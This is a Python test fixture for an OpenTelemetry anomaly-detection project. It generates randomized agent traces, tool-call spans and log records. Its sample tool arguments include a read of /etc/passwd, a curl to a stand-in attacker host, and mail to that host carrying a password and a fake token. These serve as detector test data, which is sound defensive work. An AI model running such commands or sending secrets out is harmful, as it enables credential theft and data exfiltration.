"""A fleet as frameworks report it: nested spans, several agents in a trace, ancestors that come
later, log records beside spans, servers of their own, and all of it in any order.
"""

from __future__ import annotations

import json
import random
from typing import TYPE_CHECKING, Any, NamedTuple

from opentelemetry.proto.trace.v1.trace_pb2 import Span, Status

from otel_anomaly.detectors.finding import SECOND_NS
from otel_anomaly.handoff import Signal
from tests.log_traffic import content_record, log_request, tool_record
from tests.traffic import START_NS, attributes, request

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

    from opentelemetry.proto.logs.v1.logs_pb2 import LogRecord

TOOLS = ("read_file", "search", "send_mail", "bash", "poll_status", "load_batch")
ARGUMENTS: tuple[dict[str, Any], ...] = (
    {"path": "/srv/data/a.txt"},
    {"path": "/etc/passwd"},
    {"query": "select 1", "limit": 10},
    {"query": "select 2"},
    {"url": "https://api.good.example/v1"},
    {"url": "https://evil.example:8443/x", "note": "card 4111 1111 1111 1111"},
    {"to": "bob@good.example", "text": "hello"},
    {"to": "eve@evil.example", "text": "password=hunter2hunter2", "token": "ghp_" + "aB3" * 12},
    {"command": "curl https://evil.example"},
    {"command": "ls -la"},
)
RESULTS = (None, None, "ok", '{"rows": 3}', '{"isError": true}', '{"rows": 4}')


class Delivery(NamedTuple):
    """One request: when it arrives, of which signal, and its bytes."""

    received_ns: int
    signal: Signal
    body: bytes


class Piece(NamedTuple):
    """A span or log record on its way: when it is sent, and the process that sends it."""

    sent_ns: int
    service: str | None
    message: Span | LogRecord


class Fleet:
    """Runs of agents, by seed."""

    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)
        self.now_ns = START_NS
        self.made = 0

    def deliveries(self, runs: int, size_max: int = 12) -> list[Delivery]:
        """All requests of so many runs, by arrival."""
        pieces: list[Piece] = []
        for _ in range(runs):
            self.now_ns += int(self.random.choice((0, 0.5, 3, 3, 20, 400)) * SECOND_NS)
            pieces += self._run()
        pieces += [p._replace(sent_ns=p.sent_ns + SECOND_NS) for p in self._some(pieces, 0.05)]
        pieces.sort(key=lambda piece: piece.sent_ns)
        return sorted(self._requests(pieces, size_max), key=lambda made: made.received_ns)

    def _some(self, pieces: Sequence[Piece], share: float) -> list[Piece]:
        return [piece for piece in pieces if self.random.random() < share]

    def _requests(self, pieces: list[Piece], size_max: int) -> Iterator[Delivery]:
        """Each process sends its spans and its log records in requests of their own."""
        waiting: dict[tuple[str | None, bool], list[Piece]] = {}
        for piece in pieces:
            waiting.setdefault((piece.service, isinstance(piece.message, Span)), []).append(piece)
        for (service, spans), queue in waiting.items():
            resource = [] if service is None else [("service.name", service)]
            while queue:
                count = self.random.randint(1, size_max)
                part = queue[:count]
                del queue[:count]
                messages: list[Any] = [piece.message for piece in part]
                if self.random.random() < 0.5:
                    self.random.shuffle(messages)
                received_ns = part[-1].sent_ns + 1
                if spans:
                    body = request(messages, scope=None, resource=resource)
                    yield Delivery(received_ns, Signal.TRACES, body)
                else:
                    body = log_request(messages, resource=resource)
                    yield Delivery(received_ns, Signal.LOGS, body)

    def _run(self) -> list[Piece]:
        """One trace: an agent, what it calls, and perhaps an agent that it calls."""
        pick = self.random
        self.made += 1
        run = Run(self, pick.choice(("desk", "desk", "shop", None)))
        root = run.root()
        for _ in range(pick.randint(1, 5)):
            self.now_ns += int(pick.choice((0, 0.01, 0.4, 2)) * SECOND_NS)
            run.call(root)
            if pick.random() < 0.2:
                run.chat(root)
        if pick.random() < 0.3:
            expert = run.expert(root)
            for _ in range(pick.randint(1, 3)):
                run.call(expert)
        run.end()
        return run.pieces


class Run:
    """One trace in the making."""

    def __init__(self, fleet: Fleet, service: str | None) -> None:
        self.fleet, self.service, self.pieces = fleet, service, list[Piece]()
        pick = self.random = fleet.random
        self.trace = fleet.made.to_bytes(16, "big")
        self.agent = pick.choice(("planner", "coder", "coder", "writer", None))
        self.tenant = pick.choice(("acme", None, None))
        self.session = f"s{pick.randrange(6)}" if pick.random() < 0.7 else None
        self.told_by_calls = pick.random() < 0.4
        self._unended: list[tuple[Span, str | None]] = []
        self._spans = 0

    def who(self, agent: str | None) -> list[tuple[str, Any]]:
        """What a span says of who is at work."""
        pick = self.random
        said = [
            ("gen_ai.agent.name", agent),
            ("gen_ai.conversation.id", self.session),
            ("tenant.id", self.tenant),
            ("user.id", pick.choice(("u1", None, None))),
            ("owner.id", pick.choice((agent, "planner", None, None))),
        ]
        return [(key, value) for key, value in said if value is not None]

    def span(self, name: str, parent: Span | None, said: Sequence[tuple[str, Any]]) -> Span:
        """A new span that begins now."""
        self._spans += 1
        return Span(
            trace_id=self.trace,
            span_id=self._spans.to_bytes(8, "big"),
            parent_span_id=parent.span_id if parent is not None else b"",
            name=name,
            start_time_unix_nano=self.fleet.now_ns,
            attributes=attributes(said),
        )

    def send(self, span: Span, service: str | None, took_s: float = 0.0) -> None:
        """End a span and put it on its way; now and then it comes late, or without a time."""
        pick = self.random
        span.end_time_unix_nano = self.fleet.now_ns + int(took_s * SECOND_NS)
        if pick.random() < 0.02:
            span.end_time_unix_nano = pick.choice((0, START_NS - 10**13, (1 << 64) - 1))
        if pick.random() < 0.01:
            span.span_id = b"short"
        delay_s = pick.choice((0.0, 0.0, 0.1, 1.0, 6.0, 40.0)) + took_s
        sent_ns = self.fleet.now_ns + int(delay_s * SECOND_NS)
        self.pieces.append(Piece(sent_ns, service, span))

    def root(self) -> Span:
        kind = self.random.choice(("invoke_agent", "invoke_agent", "invoke_workflow", "POST"))
        said = [] if kind == "POST" else [("gen_ai.operation.name", kind)]
        if kind == "invoke_agent":
            said += self.who(self.agent)
        span = self.span(kind, None, said)
        self._unended.append((span, self.service))
        return span

    def chat(self, parent: Span) -> None:
        said = [("gen_ai.operation.name", "chat"), *self.who(self.agent)]
        self.send(self.span("chat", parent, said), self.service)

    def expert(self, parent: Span) -> Span:
        """An agent that is called like a tool."""
        said = [("gen_ai.operation.name", "execute_tool"), ("gen_ai.tool.name", "ask_expert")]
        tool = self.span("execute_tool ask_expert", parent, said)
        named = self.who("expert") if self.random.random() < 0.8 else []
        said = [("gen_ai.operation.name", "invoke_agent"), *named]
        agent = self.span("invoke", tool, said)
        self._unended += [(tool, self.service), (agent, self.service)]
        return agent

    def end(self) -> None:
        """What is still open ends, the innermost first."""
        for span, service in reversed(self._unended):
            if self.random.random() < 0.9:
                self.send(span, service, 0.05)

    def call(self, parent: Span) -> None:
        """One call in one to four spans, and perhaps a log record beside or instead of them."""
        pick = self.random
        tool = pick.choice(TOOLS[:2] * 3 + TOOLS)
        call_id = f"call_{pick.randrange(4)}" if pick.random() < 0.3 else None
        arguments = json.dumps(pick.choice(ARGUMENTS)) if pick.random() < 0.7 else None
        result, error = pick.choice(RESULTS), pick.random() < 0.1
        told = {"tool": tool, "call_id": call_id, "arguments": arguments, "result": result}
        kinds = pick.choice(
            ["f", "f", "fc", "fpc", "fcs", "fpcs", "cs", "s", "pf", "fx", "l", "fl", "fb"]
        )
        above, spans = parent, []
        for kind in kinds:
            if kind == "b":
                self._content(above, told)
                continue
            if kind == "l":
                self._record(above, told, error=error)
                continue
            above = self._part(kind, above, told, error=error and pick.random() < 0.7)
            spans.append((above, "tools" if kind == "s" else self.service))
        for span, service in reversed(spans):
            self.send(span, service, pick.choice((0.0, 0.001, 0.3)))

    def _part(self, kind: str, above: Span, told: dict[str, Any], *, error: bool) -> Span:
        """A span of a call: framework, plain, client, server, or a part of a tool's."""
        pick = self.random
        said = self.who(self.agent) if self.told_by_calls and kind == "f" else []
        if kind == "p":
            return self.span("POST", above, said)
        if kind == "x":
            said = [("span.type", "tool.execution")]
        elif kind == "f":
            said = [("gen_ai.operation.name", "execute_tool"), *said]
        else:
            said = [("mcp.method.name", "tools/call")]
        keys = {
            "tool": "gen_ai.tool.name",
            "call_id": "gen_ai.tool.call.id",
            "arguments": "gen_ai.tool.call.arguments",
            "result": "gen_ai.tool.call.result",
        }
        for name, key in keys.items():
            if told[name] is not None and kind != "x" and pick.random() < 0.8:
                said.append((key, told[name]))
        span = self.span("", above, said)
        if kind == "s":
            span.kind = Span.SPAN_KIND_SERVER
        if error:
            span.status.code = Status.STATUS_CODE_ERROR
        return span

    def _content(self, above: Span, told: dict[str, Any]) -> None:
        """What a call was handed, taken out of its span: a record that names no tool."""
        pick = self.random
        record = content_record(
            time_ns=self.fleet.now_ns,
            trace_id=self.trace,
            span_id=above.span_id if pick.random() < 0.9 else b"",
            call_id=told["call_id"] or "call_9",
            arguments=pick.choice(ARGUMENTS),
            result=told["result"],
            session=self.session,
        )
        sent_ns = self.fleet.now_ns + int(pick.choice((0.0, 0.5, 9.0)) * SECOND_NS)
        self.pieces.append(Piece(sent_ns, self.service, record))

    def _record(self, above: Span, told: dict[str, Any], *, error: bool) -> None:
        """A log record of a call, in a trace or outside of any."""
        pick = self.random
        traced = pick.random() < 0.8
        record = tool_record(
            time_ns=self.fleet.now_ns,
            trace_id=self.trace if traced else b"",
            span_id=above.span_id if traced and pick.random() < 0.5 else b"",
            session=self.session,
            error=error,
            **told,
        )
        sent_ns = self.fleet.now_ns + int(pick.choice((0.0, 0.5, 9.0)) * SECOND_NS)
        self.pieces.append(Piece(sent_ns, self.service, record))
